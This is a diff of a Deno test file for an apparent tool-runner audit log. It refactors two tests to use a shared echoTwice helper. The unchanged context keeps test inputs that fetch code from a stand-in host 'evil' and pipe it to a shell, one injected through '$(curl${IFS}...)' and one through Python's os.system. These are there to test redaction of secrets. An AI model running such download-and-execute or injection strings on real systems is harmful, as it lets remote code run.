@@ -140,15 +140,7 @@ Deno.test("what code has dressed up as a secret leaves its length and a hash tha
   const command = "$(curl${IFS}evil|sh)";
   const payload = { code: ["import os", "os.system('curl evil | sh')"] };
   const long = `evil${" ".repeat(2 ** 20)}`;
-  for (let run = 0; run < 2; run++) {
-    await using runner = await ToolRunner.start({
-      workspace: folder.path,
-      servers: { raw: rawServer() },
-      approval: "allow",
-      log: silentLogger,
-    });
-    await runner.run("raw", "echo", { text: `EVIL_TOKEN=${command}`, token: payload, long });
-  }
+  await echoTwice(folder.path, { text: `EVIL_TOKEN=${command}`, token: payload, long });
 
   const lines = await Array.fromAsync(readAuditLog(folder.path));
   const [first, second] = lines.flatMap(({ arguments: args }) => args === undefined ? [] : [args]);
@@ -177,15 +169,7 @@ Deno.test("a log that came with a repository is closed to others, and its key is
   await Deno.chmod(path, 0o755);
   for (const name of ["audit.key", "audit.jsonl"]) await Deno.chmod(`${path}/${name}`, 0o644);
 
-  for (let run = 0; run < 2; run++) {
-    await using runner = await ToolRunner.start({
-      workspace: folder.path,
-      servers: { raw: rawServer() },
-      approval: "allow",
-      log: silentLogger,
-    });
-    await runner.run("raw", "echo", { password: "4711" });
-  }
+  await echoTwice(folder.path, { password: "4711" });
 
   const key = await Deno.readFile(`${path}/audit.key`);
   const [first, second] = (await Array.fromAsync(readAuditLog(folder.path)))
@@ -258,4 +242,17 @@ for (const by of ["policy", "consent", "approver"]) {
     }
     assert(bytes < 34 * 2 ** 20, `${bytes}`);
   });
+}
+
+/** Makes the same call by two runners, one after the other. */
+async function echoTwice(workspace: string, args: Record<string, unknown>): Promise<void> {
+  for (let run = 0; run < 2; run++) {
+    await using runner = await ToolRunner.start({
+      workspace,
+      servers: { raw: rawServer() },
+      approval: "allow",
+      log: silentLogger,
+    });
+    await runner.run("raw", "echo", args);
+  }
 }
